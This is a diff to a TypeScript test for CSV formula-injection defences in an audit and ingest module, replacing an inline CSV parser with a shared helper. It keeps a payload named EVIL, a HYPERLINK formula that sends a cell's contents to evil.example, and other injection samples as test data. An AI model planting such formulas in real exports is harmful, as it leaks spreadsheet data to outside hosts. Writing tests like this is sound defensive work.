@@ -11,29 +11,12 @@ import { listTrail, recordAudit, trailCsv } from '../../src/lib/server/audit/tra
 import { quarantineCsvFile } from '../../src/lib/server/data/batches.ts';
 import { importFile } from '../../src/lib/server/ingest/index.ts';
 import { accountRow, accountsHeader, csv, tempStore, type TempStore } from '../support/store.ts';
+import { parseCsv } from '../support/csv.ts';
 
 const EVIL = '=HYPERLINK("http://evil.example/?"&A2,"click")';
 const SAMPLES = [EVIL, '@SUM(1+1)', '+1 555 0100', '-2+3', '\tcmd', '\rcmd', '-', '=', 'plain', '', '-50', '+3.5', '-1e3', '.5', '-0.25', '12', 'a=b'];
 
-/** the cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes and line breaks) */
-function cells(text: string): string[][] {
-	const rows: string[][] = [[]];
-	let cell = '';
-	let quoted = false;
-	for (let i = 0; i < text.length; i++) {
-		const c = text[i]!;
-		if (quoted) {
-			if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
-			else if (c === '"') quoted = false;
-			else cell += c;
-		} else if (c === '"') quoted = true;
-		else if (c === ',') rows.at(-1)!.push(cell), (cell = '');
-		else if (c === '\r' && text[i + 1] === '\n') rows.at(-1)!.push(cell), (cell = ''), rows.push([]), i++;
-		else cell += c;
-	}
-	if (rows.at(-1)!.length === 0 && cell === '') rows.pop();
-	return rows;
-}
+const cells = parseCsv;
 
 /** the cells of a CSV that a spreadsheet would take for a formula */
 const live = (text: string) => cells(text).flat().filter(looksLikeFormula);
